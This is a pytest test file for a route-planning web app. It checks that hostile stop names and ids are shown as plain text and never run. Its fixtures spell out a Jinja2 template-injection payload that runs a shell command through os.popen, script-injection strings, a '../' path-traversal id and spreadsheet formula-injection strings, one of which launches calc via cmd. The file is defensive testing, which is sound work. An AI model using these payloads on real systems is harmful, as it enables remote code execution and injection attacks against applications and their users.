"""User text is data everywhere: never template source, never a formula, never a path.

Issue 9, points 1, 5 and 11: stop names that are Jinja2 (``{{7*7}}``,
``{% raw %}``, a ``lipsum`` payload that runs a shell command), that close a
script (``</script>``) or open a template literal (``${...}``) go through every
page and both maps as text; cells that start a spreadsheet formula are written
as text; a stop id with ``../`` cannot move a link to another page.
"""

from __future__ import annotations

import csv
import html
import io
import re
from urllib.parse import parse_qs, urljoin, urlsplit

import pytest
from test_pages import SETTINGS, add_plan, assert_friendly, text, upload

from routeplanner.web.pages import PAGE_BLUEPRINTS

#: Every hostile text a user can type, each with a stop id of its own.
TEMPLATE_NAMES = (
    "{{7*7}}",
    "{% raw %}",
    "{# unclosed comment",
    "</script><script>alert(1)</script>",
    "${alert(1)} `tick`",
    "{{ config.items() }}",
)
FORMULAS = ("=HYPERLINK(\"http://example.invalid/?\"&A1)", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1)")


#: The issue's payload: Jinja2 reaching ``os`` and running ``id`` (no quote character needed).
RCE = "{{ lipsum.__globals__.os.popen(dict(id=1)|first).read() }}"


def _stops_csv(names: list[tuple[str, str]]) -> str:
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow(["id", "name", "lat", "lon", "loans_per_visit", "frequency"])
    for i, (stop_id, name) in enumerate(names):
        # a ring of villages 5-10 km around Rokiškis: every one can be served
        w.writerow([stop_id, name, f"{55.95 + 0.01 * (i % 4):.4f}", f"{25.55 + 0.02 * (i // 4):.4f}", "10",
                    "fortnightly"])
    return out.getvalue()


@pytest.fixture
def injected(app, client):
    """A scenario whose every text field is hostile, two plans of it, and the stops' (id, name)."""
    names = [(f"t{i}", n) for i, n in enumerate(TEMPLATE_NAMES)]
    names += [("rce", RCE), ("../../../scenarios/1", "Dot dot"), ("=1+1", "Formula id")]
    names += [(f"f{i}", n) for i, n in enumerate(FORMULAS)]
    response = upload(
        client, _stops_csv(names),
        name="{{7*7}} scenario {% raw %}",
        depot_name="Depot {{7*7}}",
        **{"vehicle-0-name": "Van {% raw %} ${x}"},
    )
    assert response.status_code == 303, text(response)[:2000]
    sid = int(response.headers["Location"].rsplit("/", 1)[1])
    plan_id = add_plan(app, sid, "label {{7*7}} {% raw %}")
    other = add_plan(app, sid, "other", work_limit=5)
    assert client.post(f"/plans/{plan_id}/publish").status_code == 303  # the stable addresses show it
    return sid, plan_id, other, names


def _page_urls(app, sid: int, plan_id: int, other: int) -> list[str]:
    values = {"scenario_id": sid, "plan_id": plan_id, "number": 1, "week": 1, "stop_id": "t0"}
    urls = []
    for rule in app.url_map.iter_rules():
        if rule.endpoint.split(".")[0] not in PAGE_BLUEPRINTS or "GET" not in rule.methods or "job_id" in rule.rule:
            continue
        url = rule.rule
        for key, value in values.items():
            url = re.sub(rf"<(?:\w+:)?{key}>", str(value), url)
        if "<" in url or url.startswith("/static"):
            continue
        if "compare" in url:
            url += f"?plan={plan_id}&plan={other}"
        elif url.endswith("/calendar"):
            url += "?stop=t0"
        urls.append(url)
    return urls


def _shown(body: str) -> str:
    """What a reader sees: JSON's \\u escapes and HTML's character references decoded."""
    body = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), body)
    return html.unescape(html.unescape(body))


def test_template_text_is_never_run_anywhere(app, client, injected):
    sid, plan_id, other, names = injected
    urls = _page_urls(app, sid, plan_id, other)
    assert any(u.endswith("/map") for u in urls) and any("/compare/map" in u for u in urls)
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code, text(response)[:500])
        body = text(response) if response.mimetype != "text/calendar" else response.data.decode("utf-8")
        assert "uid=" not in body, f"{url} ran a stop name as a template on the server"
        assert "Traceback" not in body
        if response.mimetype == "text/html":
            assert "</script><script>alert(1)" not in body, url
        if url.endswith("/map") or "/map?" in url:
            # in the map's JavaScript every brace and dollar is a character reference
            assert "{{" not in body and "{%" not in body and "${" not in body, url
    # the names are shown as written, on the pages that list stops and on both maps
    listing = [f"/scenarios/{sid}", f"/plans/{plan_id}", f"/plans/{plan_id}/timetable",
               f"/plans/{plan_id}/map", f"/compare/map?plan={plan_id}&plan={other}"]
    for url in listing:
        shown = _shown(text(client.get(url)))
        for _stop_id, name in names:
            assert name in shown, (url, name)
    assert "label {{7*7}} {% raw %}" in _shown(text(client.get(f"/compare/map?plan={plan_id}&plan={other}")))
    plan_page = _shown(text(client.get(f"/plans/{plan_id}")))
    assert "Van {% raw %} ${x}" in plan_page and "Depot {{7*7}}" in _shown(text(client.get(f"/plans/{plan_id}/map")))


@pytest.mark.parametrize("which", ["published", "other"])
def test_calendar_links_stay_on_their_page(client, injected, which):
    """The published plan's stops link to the scenario's feed, another plan's to its own file."""
    sid, plan_id, other, _names = injected
    pid = plan_id if which == "published" else other
    path = f"/scenarios/{sid}/calendar.ics" if which == "published" else f"/plans/{pid}/calendar"
    for page_url in (f"http://localhost/plans/{pid}/timetable", f"http://localhost/scenarios/{sid}/timetable"):
        if which == "other" and "/scenarios/" in page_url:
            continue
        body = text(client.get(page_url))
        links = [html.unescape(h) for h in re.findall(r'href="([^"]*calendar[^"]*)"', body)]
        links = [x for x in links if not x.startswith("webcal:")]  # the whole feed, to subscribe to
        assert links, "the timetable has calendar links"
        for link in links:
            target = urlsplit(urljoin(page_url, link))  # how a browser resolves it, dot segments and all
            assert target.path == path, link
            stop = parse_qs(target.query)["stop"][0]
            response = client.get(f"{target.path}?{target.query}")
            assert response.status_code == 200 and response.mimetype == "text/calendar", (stop, response.status_code)
        assert "../../../scenarios/1" in [parse_qs(urlsplit(urljoin(page_url, x)).query)["stop"][0] for x in links]


def test_stops_download_writes_formulas_as_text(client, injected):
    sid = injected[0]
    response = client.get(f"/scenarios/{sid}/stops.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    for row in rows:
        for column, cell in row.items():
            if cell and cell[0] in "=+-@":
                assert re.fullmatch(r"-?\d+(\.\d+)?", cell), (column, cell)  # only plain numbers
    by_id = {r["id"]: r for r in rows}
    assert by_id["'=1+1"]["name"] == "Formula id"
    assert {r["name"] for r in rows} >= {"'" + f for f in FORMULAS}


def test_stops_download_reads_back_to_the_same_stops(app, client, injected):
    """The apostrophe that keeps a formula inert is taken off again on upload: nothing drifts."""
    sid = injected[0]
    downloaded = client.get(f"/scenarios/{sid}/stops.csv").get_data(as_text=True)
    response = upload(client, downloaded, **{k: v for k, v in SETTINGS.items() if k != "name"}, name="again")
    assert response.status_code == 303, text(response)[:2000]
    again = int(response.headers["Location"].rsplit("/", 1)[1])
    first = client.get(f"/api/scenarios/{sid}/stops").get_json()["stops"]
    second = client.get(f"/api/scenarios/{again}/stops").get_json()["stops"]
    assert [(s["id"], s["name"]) for s in first] == [(s["id"], s["name"]) for s in second]
    assert "=1+1" in [s["id"] for s in second]
    assert_friendly(client.get(f"/scenarios/{again}"), 200)
